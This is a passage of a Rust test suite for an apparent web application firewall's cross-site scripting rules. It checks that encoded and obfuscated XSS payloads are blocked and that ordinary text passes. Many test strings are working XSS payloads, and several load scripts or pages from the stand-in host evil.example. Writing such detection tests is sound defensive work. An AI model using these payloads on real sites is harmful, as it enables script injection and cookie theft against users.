        assert_rule("<img style=\"x:expr/*x*/ession(alert(1))\">", 1214);
        assert_rule(
            "<div style=\"font-family:'foo[a];color:red;';\">x</div>",
            1200,
        );
        assert_rule(
            "<x style=\"-moz-binding:url(//evil.example/x.xml#x)\">",
            1214,
        );
        assert_rule("<iframe srcdoc=\"<script>alert(1)</script>\">", 1215);
        assert_rule("<button formaction=javascript:alert(1)>x", 1215);
        assert_rule("{{constructor.constructor('alert(1)')()}}", 1216);
        assert_rule("x=document.cookie", 1217);
        assert_rule("eval(atob('YWxlcnQoMSk='))", 1217);
        assert_rule("String.fromCharCode(88,83,83)", 1217);
        assert_rule("\";alert('xss');//", 1218);
        assert_rule("'-alert(1)-'", 1218);
        assert_rule("</script><svg onload=alert(1)>", 1218);
        assert_rule("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", 1219);
        assert_rule("<?xml-stylesheet href=\"javascript:alert(1)\"?>", 1220);
        assert_rule("<b>alert(1)</b>", 1221);
    }

    /// libinjection flags a backtick inside an HTML comment and backtick-quoted values (how
    /// Internet Explorer read them) and the embedding tags written bare, as generics are in
    /// C++, Rust and Java: Markdown comments and code. Rule 1201 at paranoia 2, not 1200.
    #[test]
    fn internet_explorer_backticks_and_bare_embedding_tags_are_paranoia_2() {
        for v in [
            "<!-- YAML\nadded: v1.0.0\nchanges:\n  - version: v2.0.0\n    description: The `signal` option was added.\n-->",
            "<!-- TODO: document `--watch` -->",
            "<!-- lint disable `no-undef` -->\nSee below.",
            "Local<Object> obj = Object::New(isolate);",
            "void Init(Local<Object> exports, Local<Object> module) {",
            "fn frames(&self) -> Vec<Frame>",
            "Returns a `Promise<Object>` that resolves with the `Link` map.",
            "Option<Meta> and Arc<Base>",
            "<iframe>",
            "<OBJECT>",
        ] {
            assert_passes(v, 1);
            assert!(rules(v, 2).contains(&1201), "{v:?}: {:?}", rules(v, 2));
            assert!(!rules(v, 2).contains(&1200), "{v:?}: {:?}", rules(v, 2));
        }
    }

    /// The same markup with anything a browser acts on stays rule 1200 and blocks.
    #[test]
    fn backticks_and_bare_tags_beside_script_still_block() {
        for v in [
            "<!-- `x` --><img src=x onerror=alert(1)>",
            "<!--`--><svg onload=alert(1)>",
            "<img src=`javascript:alert(1)`>",
            "<a href=`javascript:alert(1)`>x</a>",
            "Local<Object> x; <script>alert(1)</script>",
            "<object data=javascript:alert(1)>",
            "<object data=\"//evil.example/x.swf\"></object>",
            "<iframe src=//evil.example>",
            "<iframe/src=javascript:alert(1)>",
            "<embed src=//evil.example/x.swf>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<link rel=import href=//evil.example/x.html>",
        ] {
            assert_blocked(v, 1);
            assert_rule(v, 1200);
        }
    }

    /// `eval`, `import`, `atob` and `location` run nothing called as a template tag, so a
    /// Markdown code span naming a flag is no breakout; the functions that do run still are.
    #[test]
    fn template_tag_breakouts() {
        for v in [
            "`--eval`",
            "`--import`",
            "* `--import`",
            "Pass code with `--eval` or `--import`.",
            "[`--eval`]: cli.md#-e---eval-script",
            "`--location`",
        ] {
            assert!(!rules(v, 1).contains(&1218), "{v:?}: {:?}", rules(v, 1));
            assert!(score(v, 1) < 5, "{v:?}: {:?}", rules(v, 1));
        }
        for v in [
            "'-alert`1`-'",
            "\"-confirm`1`-\"",
            "`-prompt`1`-`",
            "';setTimeout`alert\\x281\\x29`//",
            "`-top[`alert`]`1`-`",
            "'-eval(atob('YWxlcnQoMSk='))-'",
            "';import('//evil.example/x.js')//",
        ] {
            assert_rule(v, 1218);
            assert_blocked(v, 1);
        }
    }

    #[test]
    fn libinjection_is_the_main_rule() {
        assert!(rules("<script>alert(1)</script>", 1).contains(&1200));
        assert!(rules("<img src=x onerror=alert(1)>", 1).contains(&1200));
    }

    #[test]
    fn evasions_through_encoding() {
        // These rely on the views (URL decoding, entities, full-width folding, controls).
        assert_blocked("%3Cscript%3Ealert(1)%3C/script%3E", 1);
        assert_blocked("%253Cscript%253Ealert(1)", 1);
        assert_blocked("%u003cscript%u003ealert(1)", 1);
        assert_blocked("<a href=\"java&#x09;script:alert(1)\">", 1);
        assert_blocked(
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">",
            1,
        );
        assert_blocked("<a href=\"jav%0Dascript:alert(1)\">", 1);
        assert_blocked("＜ｓｃｒｉｐｔ＞alert(1)＜／ｓｃｒｉｐｔ＞", 1);
        assert_blocked("<img src=x o&#110;error=alert(1)>", 1);
    }

    #[test]
    fn benign_values_pass_at_paranoia_1() {
        for v in [
            "",
            "John O'Brien",
            "Tom & Jerry",
            "a < b and c > d",
            "I <3 cats",
            "BLAH <A HREF=\"/PATH1/PATH2/PATH3\">FOO</A>",
            "<SPAN CLASS=\"SHOW-TEXT\">REGARDEZ</SPAN>",
            "<table width=\"99%\" border=\"0\" cellpadding=\"1\"'",
            "V1_OTHER_1\"><IMG CLASS=\"SIZE-FULL WP-IMAGE-2764",
            "junk <a href=\"../\">foo.com</a>",
            "I wrote it in Java script: it was fun",
            "I love javascript: it is fun",
            "regular expression (regex) matching",
            "Please confirm (yes/no)",
            "https://example.com/path?online=1&x=2",
            "Status: online",
            "price=(10+5)",
            "email me at bob@example.com",
            "see https://example.com/a:b",
            "{{ user.name }}",
            "data: 12, 13",
            "My function(x) returns x",
            "1 + 1 = 2",
            "<span style=\"font-size: 140%\">Fast, safe</span>",
            "<p style=\"color:red\">warning</p>",
            "<span style=\"font-family: 'times new roman', serif; color: rgb(255, 0, 0)\">x</span>",
            "see <a href=\"datatype3.html#affinity\">column affinity</a>",
            "<!DOCTYPE html>",
        ] {
            assert_passes(v, 1);
        }
    }

    #[test]
    fn paranoia_levels_are_progressively_stricter() {
        assert!(score("<b>bold</b>", 1) < 5);
        assert!(score("<b>bold</b>", 2) < 5);
        assert_blocked("<img src=cat.png>", 2);
        assert_blocked("alert(1)", 2);
        assert_blocked("<b>bold</b>", 3);
        assert!(score("a < b", 3) < 5);
        assert!(!rules("a < b", 4).is_empty());
    }

    #[test]
    fn a_tokenizer_panic_is_a_critical_finding() {
        let verdict = guarded(b"x", |_| -> bool { panic!("tokenizer bug") });
        assert_eq!(verdict, None);
        let t = Target::new(Location::Query, "q", Part::Value, "x");
        let mut views = Views::new();
        views.load("x");
        let mut out = Vec::new();
        let mut sink = Sink {
            target: &t,
            paranoia: 1,
            seen: 0,
            out: &mut out,
        };
        report_tokenizer(&mut sink, &mut views, View::Decoded, verdict);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].rule, 1299);
        assert_eq!(out[0].severity, Severity::Critical);
    }

    #[test]
    fn tokenizer_input_is_capped() {
        let long = vec![b'a'; TOKENIZER_MAX * 2];
        assert_eq!(
            guarded(&long, |input| input.len() == TOKENIZER_MAX),
            Some(true)
        );
    }

    /// The claim behind the gate in [`tokenize`]: libinjection flags nothing without a `<`
    /// or a `=`.
    #[test]
    fn tokenizer_needs_an_angle_bracket_or_equals_sign() {
        const PIECES: &[&str] = &[
            "onerror",
            "onload",
            "style",
            "href",
            "src",
            "javascript:",
            "vbscript:",
            "data:",
            "alert(1)",
            "x",
            "'",
            "\"",
            "`",
            " ",
            "\t",
            "\n",
            "/",
            ">",
            "!",
            "-",
            "--",
            "?",
            "[if",
            "xml",
            "import",
            "entity",
            "doctype",
            "script",
            "svg",
            "&",
            "#",
            ";",
            ":",
            "(",
            ")",
            "{",
            "}",
            "\\",
            "\u{0}",
            "\u{b}",
            "expression",
            "url",
            "xmlns",
            "formaction",
            "srcdoc",
            "\u{e9}",
        ];
        let mut rng = fastrand::Rng::with_seed(11);
        for _ in 0..100_000 {
            let mut v = String::new();
            for _ in 0..rng.usize(1..14) {
                v.push_str(PIECES[rng.usize(..PIECES.len())]);
            }
            assert!(
                !libinjectionrs::detect_xss(v.as_bytes()).is_injection(),
                "{v:?}"
            );
        }
        // With them, it still runs.
        assert_eq!(tokenize(b"x onerror=alert(1)"), Some(true));
        assert_eq!(tokenize(b"<script>"), Some(true));
        assert_eq!(tokenize(b"x onerror alert(1)"), Some(false));
    }

    #[test]
    fn one_finding_per_rule() {
        let got = rules("<script>1</script><script>2</script>", 1);
        assert_eq!(got.iter().filter(|&&r| r == 1210).count(), 1);
    }
}
